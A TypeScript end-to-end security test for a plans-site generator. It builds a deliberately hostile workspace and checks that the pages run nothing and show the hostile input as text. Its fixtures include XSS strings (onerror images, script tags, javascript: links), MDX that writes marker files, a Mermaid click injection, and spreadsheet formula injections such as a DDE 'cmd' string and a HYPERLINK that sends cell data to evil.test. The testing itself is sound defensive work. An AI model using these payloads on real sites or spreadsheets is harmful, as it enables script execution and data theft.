import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readWorkspace } from '../../src/core/load/read-workspace.ts';
import { workingCopy } from '../../src/core/load/sources.ts';
import { parseCsv } from '../helpers/csv.ts';
import { snapshotTree } from '../helpers/sandbox.ts';
import { buildSite, crawl, launchBrowser, ROOT, serve, type CrawledPage } from './helpers.ts';

// A workspace whose text tries to break out of HTML, MDX and Mermaid, built under a sub-path
// (BASE=/team/plans/) so the same crawl also proves every internal link honours BASE. It is copied into
// a git repository in a temporary folder whose plans folder has a hostile name, next to a bystander
// folder, and gets files the build must never compile: MDX under node_modules, a hidden folder and .md.
const BASE = '/team/plans/';
const PLANS_NAME = 'pl #a?b%c d';
const ODD_FOLDER = 'a #b?c%d e';
const LONG_NAME = `Maximiliane ${'Wolkenstein-'.repeat(8)}Oberhausen`;

const root = mkdtempSync(join(tmpdir(), 'hostile-site-'));
const plans = join(root, PLANS_NAME);
const bystander = join(root, 'bystander');
const marker = (n: string) => join(bystander, `pwned-${n}`);
const payload = (n: string, narrative: string) =>
  `---\nname: Never\nstatus: current\nstrategy: grow\nowner: ann-lee\ndimensions: { channel: direct }\n---\n\nimport fs from 'node:fs'\nexport const x = fs.writeFileSync(${JSON.stringify(marker(n))}, 'ran')\n\n${narrative}\n`;

const account = (name: string, narrative: string) =>
  `---\nname: ${name}\nstatus: current\nstrategy: grow\nowner: ann-lee\ndimensions: { channel: direct }\n---\n\n${narrative}\n`;

let site: { dir: string };
let server: { url: string; close: () => Promise<void> };
let browser: Browser;
let context: BrowserContext;
let pages: CrawledPage[];
let before: Map<string, string>;
const dialogs: string[] = [];
const facts = { h1: '', chart: '', scripts: [] as string[], narrative: '', handlers: 0, pwned: [] as unknown[], images: [] as { src: string; width: number }[], links: 0 };
const odd = { narrative: '', edit: '', updated: '' };
const nonAscii = { narrative: '', edit: '', updated: '' };
/** The portfolio page, where the hostile ledger's clients without a plan are ranked (tests/fixtures/site-hostile/sales/). */
const portfolio = { text: '', handlers: -1, pwned: 'not visited' as unknown };
/** The quarterly pack of the hostile plan's owner: the same plan text on another page. */
const pack = { urls: [] as string[], title: '', handlers: -1 };
/** The hostile review's page: its text, and how many elements carry an event handler. */
const review = { text: '', handlers: -1 };

beforeAll(async () => {
  cpSync(join(ROOT, 'tests/fixtures/site-hostile'), plans, { recursive: true });
  mkdirSync(bystander);
  writeFileSync(join(bystander, 'keep.txt'), 'not the build\'s\n');
  const files: Record<string, string> = {
    'accounts/node_modules/evil.mdx': payload('node-modules', 'REPLACED NARRATIVE from node_modules'),
    'accounts/.hidden/evil.mdx': payload('hidden', 'REPLACED NARRATIVE from a hidden folder'),
    'node_modules/evil.mdx': payload('root-node-modules', 'REPLACED NARRATIVE from the root'),
    'accounts/extra.md': payload('md', 'REPLACED NARRATIVE from a .md file'),
    [`accounts/${ODD_FOLDER}/odd.mdx`]: account('Odd Folder Inc', 'The narrative of the odd folder.\n\n![odd chart](./chart.png)'),
    'accounts/région-nord/north.mdx': account('Nord SA', 'The narrative of the non-ASCII folder.'),
  };
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(join(plans, rel, '..'), { recursive: true });
    writeFileSync(join(plans, rel), text);
  }
  cpSync(join(plans, 'accounts/chart.png'), join(plans, 'accounts', ODD_FOLDER, 'chart.png'));
  // A person whose name is far wider than a phone, owning a plan: the owner filters list them.
  writeFileSync(join(plans, 'team.yaml'), `${readFileSync(join(plans, 'team.yaml'), 'utf8')}  - { id: long-name, name: "${LONG_NAME}", role: account-executive, manager: max-roe }\n`);
  writeFileSync(join(plans, 'accounts/long-owner.yaml'), 'name: Long Owner Co\nstatus: current\nstrategy: grow\nowner: long-name\ndimensions: { channel: direct }\n');
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=t@example.com', '-c', 'commit.gpgsign=false', ...args], { cwd: root, stdio: 'ignore' });
  git('init', '-q');
  git('add', '-A');
  // A commit message and an author name are nobody's reviewed text: no page may show them.
  git('-c', 'user.name=<img src=x onerror=alert(2)> Mallory', 'commit', '-q', '-m', '<img src=x onerror=alert(1)> Hostile plans');
  before = snapshotTree(root);

  site = buildSite(plans, { BASE, SITE: 'https://plans.example.com' });
  server = await serve(site.dir, BASE);
  browser = await launchBrowser();
  context = await browser.newContext();
  // Nothing leaves loopback: a click on an outside link is answered here, not by the network.
  await context.route((url) => !url.href.startsWith('http://127.0.0.1'), (route) => route.abort());
  context.on('page', (p) => p.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss())));
  browser.newPage = async () => context.newPage();
  pages = await crawl(browser, server.url, server.url, async (page, url) => {
    if (url.endsWith('/accounts/odd/')) Object.assign(odd, await accountFacts(page));
    if (url.endsWith('/accounts/north/')) Object.assign(nonAscii, await accountFacts(page));
    if (url.endsWith('/portfolio/')) {
      portfolio.text = (await page.locator('main').textContent()) ?? '';
      portfolio.handlers = await page.$$eval('*', (els) => els.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length);
      portfolio.pwned = await pwned(page);
    }
    if (url.includes('/packs/ann-lee/')) {
      pack.urls.push(url);
      pack.title = (await page.locator('article.pack-plan h2').first().textContent()) ?? '';
      pack.handlers = await page.$$eval('*', (els) => els.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length);
    }
    if (url.endsWith('/reviews/2026-11/ann-lee/')) {
      review.text = (await page.locator('main').textContent()) ?? '';
      review.handlers = await page.$$eval('*', (els) => els.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length);
    }
    if (!url.endsWith('/accounts/evil/')) return;
    facts.h1 = (await page.locator('h1').textContent()) ?? '';
    facts.chart = (await page.locator('section:has(#stakeholders) figure.diagram svg').first().textContent()) ?? '';
    facts.scripts = await page.$$eval('script', (s) => s.map((x) => x.textContent ?? '').filter((t) => /alert|__pwned/.test(t)));
    facts.narrative = (await page.locator('section.narrative').textContent()) ?? '';
    facts.handlers = await page.$$eval('*', (els) => els.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length);
    facts.images = await page.$$eval('section.narrative img', (imgs) => imgs.map((i) => ({ src: (i as HTMLImageElement).getAttribute('src') ?? '', width: (i as HTMLImageElement).naturalWidth })));
    facts.pwned.push(await pwned(page));
  });
  // Click every narrative link, then hover and click the bold text, each on a fresh load of the page.
  const page = await context.newPage();
  const url = `${server.url}accounts/evil/`;
  await page.goto(url, { waitUntil: 'load' });
  facts.links = await page.locator('section.narrative a').count();
  for (let i = 0; i < facts.links; i++) {
    await page.goto(url, { waitUntil: 'load' });
    await page.locator('section.narrative a').nth(i).click({ noWaitAfter: true });
    facts.pwned.push(await pwned(page));
  }
  await page.goto(url, { waitUntil: 'load' });
  await page.locator('section.narrative b').last().hover();
  await page.locator('section.narrative b').last().click();
  facts.pwned.push(await pwned(page));
  await page.close();
});

/** window.__pwned once the page has settled, wherever a click led (a navigation destroys the old context). */
async function pwned(page: import('playwright-core').Page): Promise<unknown> {
  for (let attempt = 0; attempt < 5; attempt++) {
    try {
      await page.waitForLoadState('load');
      return await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
    } catch {
      // The page navigated while we asked: ask the new one.
    }
  }
  return 'the page never settled';
}

async function accountFacts(page: import('playwright-core').Page): Promise<{ narrative: string; edit: string; updated: string }> {
  return {
    narrative: (await page.locator('section.narrative').textContent()) ?? '',
    edit: (await page.locator('a', { hasText: 'Edit this plan' }).getAttribute('href')) ?? '',
    updated: (await page.locator('p.muted', { hasText: 'Reviewed' }).or(page.locator('p.muted', { hasText: 'Never reviewed' })).first().textContent()) ?? '',
  };
}

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (site) rmSync(join(site.dir, '..'), { recursive: true, force: true });
  rmSync(root, { recursive: true, force: true });
});

describe('a plan whose text is hostile', () => {
  it('opens no dialog and sets no marker, on load, on clicking every narrative link, on hover and click', () => {
    expect(pages.length).toBeGreaterThanOrEqual(8);
    expect(dialogs).toEqual([]);
    expect(facts.scripts).toEqual([]);
    expect(facts.handlers).toBe(0);
    expect(facts.links).toBeGreaterThanOrEqual(10);
    expect(facts.pwned.length).toBe(facts.links + 2);
    expect(facts.pwned.every((p) => p === undefined)).toBe(true);
  });

  it('shows HTML in plan text as text', () => {
    const evil = readWorkspace(workingCopy({ plansDir: 'tests/fixtures/site-hostile' })).workspace!.accountById.get('evil')!;
    expect(facts.h1).toBe(evil.plan.name);
    expect(evil.plan.name).toContain('<script>');
  });

  it('shows HTML in plan text as text in the owner\'s quarterly packs too', () => {
    expect(pack.urls).toHaveLength(2);
    expect(pack.title).toBe(readWorkspace(workingCopy({ plansDir: 'tests/fixtures/site-hostile' })).workspace!.accountById.get('evil')!.plan.name);
    expect(pack.handlers).toBe(0);
  });

  it('shows HTML in a review as text, on the review\'s own page', () => {
    expect(review.handlers).toBe(0);
    for (const text of ["<script>alert('review')</script>", "<img src=x onerror=alert('concern')>", "<b onmouseover=alert('note')>hover</b>", "<a href='javascript:alert(7)'>follow</a>", "reason: <script>alert('reason')</script>"]) {
      expect(review.text).toContain(text);
    }
  });

  it('shows Mermaid syntax in a stakeholder\'s name as text inside the chart, with every stakeholder drawn', () => {
    const evil = readWorkspace(workingCopy({ plansDir: 'tests/fixtures/site-hostile' })).workspace!.accountById.get('evil')!;
    for (const s of evil.plan.stakeholders) expect(facts.chart).toContain(s.name.replace(/\s+/g, ' '));
    expect(facts.chart).toContain('"]; click A call alert(1)');
  });

  it('shows the narrative of the validated file, with code in backticks as text, and no removed element', () => {
    expect(facts.narrative).toContain('The validated narrative of evil.mdx.');
    expect(facts.narrative).toContain("<script>alert('code')</script>");
    expect(facts.narrative).not.toContain('REPLACED');
    expect(facts.narrative).not.toContain('__pwned');
    expect(facts.narrative).not.toContain('comment for the next editor');
  });

  it('publishes the narrative\'s images under content-hashed names below BASE, and they load', () => {
    expect(facts.images.length).toBe(3);
    for (const image of facts.images) {
      expect(image.src).toMatch(/^\/team\/plans\/plan-images\/[0-9a-f]{20}\.png$/);
      expect(image.width).toBe(4);
    }
    expect(readdirSync(join(site.dir, 'plan-images'))).toEqual([facts.images[0]!.src.split('/').pop()]);
  });

  it('compiles no plan file: no MDX outside the validated ones ran, and nothing beside the output changed', () => {
    for (const n of ['node-modules', 'hidden', 'root-node-modules', 'md']) expect(existsSync(marker(n))).toBe(false);
    expect(snapshotTree(root)).toEqual(before);
  });

  it('shows the narrative of a plan in a folder named with #, ?, % and a space, with a working edit link', () => {
    expect(odd.narrative).toContain('The narrative of the odd folder.');
    expect(odd.edit).toBe('https://git.example.com/hostile/plans/edit/main/pl%20%23a%3Fb%25c%20d/accounts/a%20%23b%3Fc%25d%20e/odd.mdx');
    expect(odd.updated).toMatch(/last updated \d{4}-\d{2}-\d{2}/);
    expect(odd.updated).not.toContain('Hostile plans');
  });

  it('dates a plan in a non-ASCII folder from git, and encodes its edit link', () => {
    expect(nonAscii.narrative).toContain('The narrative of the non-ASCII folder.');
    expect(nonAscii.updated).toMatch(/last updated \d{4}-\d{2}-\d{2}/);
    expect(nonAscii.updated).not.toMatch(/Hostile plans|Mallory/);
    expect(nonAscii.updated).not.toContain('not committed yet');
    expect(nonAscii.edit).toBe('https://git.example.com/hostile/plans/edit/main/pl%20%23a%3Fb%25c%20d/accounts/r%C3%A9gion-nord/north.mdx');
  });

  it('serves every page under the BASE sub-path with no broken link and no console error', () => {
    expect(pages.every((p) => p.url.startsWith(server.url))).toBe(true);
    expect(pages.filter((p) => p.status !== 200 || p.errors.length > 0).map((p) => ({ url: p.url, status: p.status, errors: p.errors }))).toEqual([]);
    expect(pages.map((p) => p.url)).toContain(`${server.url}accounts/evil/`);
    expect(readFileSync(join(site.dir, 'accounts/evil/index.html'), 'utf8')).not.toContain('__pwned');
  });
});

describe('layout that plan text cannot break', () => {
  it('keeps the owner filter of /accounts/ and /findings/ within a 390 px phone, whatever the longest name', async () => {
    const page = await context.newPage();
    await page.setViewportSize({ width: 390, height: 800 });
    for (const path of ['accounts/', 'findings/']) {
      await page.goto(`${server.url}${path}`, { waitUntil: 'load' });
      const widths = await page.evaluate(() => ({
        page: document.documentElement.scrollWidth,
        selects: [...document.querySelectorAll('form.filters select')].map((s) => s.getBoundingClientRect().right),
        options: [...document.querySelectorAll('form.filters option')].map((o) => o.textContent ?? ''),
      }));
      expect(widths.options.some((o) => o.includes('Oberhausen')), path).toBe(true);
      expect(widths.page, path).toBeLessThanOrEqual(390);
      expect(widths.selects.every((r) => r <= 390), path).toBe(true);
    }
    await page.close();
  });

  it('opens the goals page with a fragment that is not valid percent-encoding, without a script error', async () => {
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(`${server.url}goals/#%E0%A4%A`, { waitUntil: 'load' });
    expect(errors).toEqual([]);
    await page.close();
  });
});

describe('a sales ledger whose cells are hostile', () => {
  const hyperlink = `=HYPERLINK("http://evil.test/?x="&A1,"Click") <img src=x onerror="window.__pwned='ledger'">`;

  it('shows formula and HTML text of clients without a plan as text on the portfolio page, and runs none of it', () => {
    expect(portfolio.text).toContain(hyperlink);
    expect(portfolio.text).toContain("<script>window.__pwned='proto'</script>");
    expect(portfolio.text).toContain('@SUM(1+1)');
    expect(portfolio.handlers).toBe(0);
    expect(portfolio.pwned).toBeUndefined();
  });

  it('quotes them in the ranking download, so a spreadsheet shows them as text and runs no formula', () => {
    const rows = parseCsv(readFileSync(join(site.dir, 'portfolio/clients.csv'), 'utf8'));
    expect(rows[0]!.slice(0, 5)).toEqual(['dimension', 'value', 'id', 'client', 'plan']);
    const clients = rows.slice(1).map((r) => [r[2], r[3], r[4]]);
    expect(clients).toContainEqual(["'=cmd|' /C calc'!A0", `'${hyperlink}`, 'no']);
    expect(clients).toContainEqual(['__proto__', "<script>window.__pwned='proto'</script>", 'no']);
    expect(clients).toContainEqual(['constructor', "'@SUM(1+1)", 'no']);
  });
});
